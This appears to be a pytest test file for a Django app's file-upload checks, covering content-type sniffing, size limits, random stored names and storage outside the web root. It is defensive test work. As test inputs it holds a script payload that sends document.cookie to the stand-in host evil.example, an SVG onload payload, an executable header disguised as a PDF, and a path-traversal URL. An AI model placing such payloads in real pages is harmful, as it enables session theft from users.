"""Uploads (security summaries, training evidence, GIAS extracts): a size limit, the type checked
from the content and not only the name (a script named .pdf is refused), a random stored name,
stored outside anything the web server serves, and served only through a view that checks who
is asking."""

from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from partners.models import Organisation, TrainingRecord
from partners.roles import Role
from partners.tenancy import activate
from tests.partners.pages_directory_helpers import organisation_form_data, pdf

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def upload_summary(client, organisation, upload):
    return client.post(
        reverse("organisation_edit", args=[organisation.public_id]),
        {**organisation_form_data(organisation), "security_summary": upload},
    )


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (SimpleUploadedFile("summary.pdf", SCRIPT), "is not a real PDF file"),
        (SimpleUploadedFile("summary.html", SCRIPT), "must be a PDF, DOCX or ODT"),
        (SimpleUploadedFile("summary.svg", b"<svg onload='alert(1)'/>"), "must be a PDF"),
        (SimpleUploadedFile("summary.pdf.exe", b"MZ\x90\x00"), "must be a PDF, DOCX or ODT"),
        (SimpleUploadedFile("summary.odt", b"PK\x03\x04" + SCRIPT), "is not a real ODT file"),
        (pdf(size=10 * 1024 * 1024 + 1), "must be smaller than 10MB"),
    ],
    ids=["script-as-pdf", "html", "svg", "double-extension", "fake-odt", "oversize"],
)
def test_a_security_summary_that_is_not_what_it_says_is_refused(
    partnership, client_for, media, upload, message
):
    response = upload_summary(
        client_for(partnership.member(Role.IG_OFFICER)), partnership.council, upload
    )

    assert response.status_code == 400
    assert message in response.content.decode()
    assert not any(media.rglob("*.*"))


def test_training_evidence_is_checked_the_same_way(partnership, client_for, media):
    response = client_for(partnership.member(Role.SENCO)).post(
        reverse("my_training_record"),
        {
            "course": "IG refresher",
            "completed_on_day": "5",
            "completed_on_month": "1",
            "completed_on_year": "2026",
            "evidence": SimpleUploadedFile("certificate.png", SCRIPT),
        },
    )

    assert response.status_code == 400
    assert "is not a real PNG file" in response.content.decode()
    assert not TrainingRecord.objects.cross_tenant().exists()


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (SimpleUploadedFile("schools.csv", SCRIPT), "has no"),
        (SimpleUploadedFile("schools.csv", b"MZ\x90\x00\x03\x00\x00\x00"), "is not text"),
        (SimpleUploadedFile("schools.csv", b"URN\n" + b"1" * (20 * 1024 * 1024)), "20MB"),
    ],
    ids=["script-as-csv", "program-as-csv", "oversize"],
)
def test_an_import_that_is_not_a_gias_extract_is_refused(
    partnership, client_for, media, upload, message
):
    response = client_for(partnership.member(Role.IG_OFFICER)).post(
        reverse("organisation_import_upload"), {"source": upload}
    )

    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_document_is_stored_under_a_random_name_outside_the_web_root(
    partnership, client_for, media
):
    client = client_for(partnership.member(Role.IG_OFFICER))

    upload_summary(client, partnership.council, pdf("Jo Bloggs safeguarding summary.pdf"))

    with activate(partnership.tenant):
        stored = Organisation.objects.get(pk=partnership.council.pk).security_summary
    assert "Jo" not in stored.name and "safeguarding" not in stored.name
    assert Path(stored.path).is_relative_to(media)
    served = [Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)]
    assert not any(Path(settings.MEDIA_ROOT).is_relative_to(root) for root in served)
    # No URL serves the media folder; the only way to the file is the checked view.
    assert not settings.MEDIA_URL or settings.MEDIA_URL in ("", "/")
    assert client.get(f"/media/{stored.name}").status_code == 404
    assert client.get(f"/static/../media/{stored.name}").status_code == 404
    download = reverse("organisation_security_summary", args=[partnership.council.public_id])
    assert Client().get(download).status_code == 302
    response = client.get(download)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
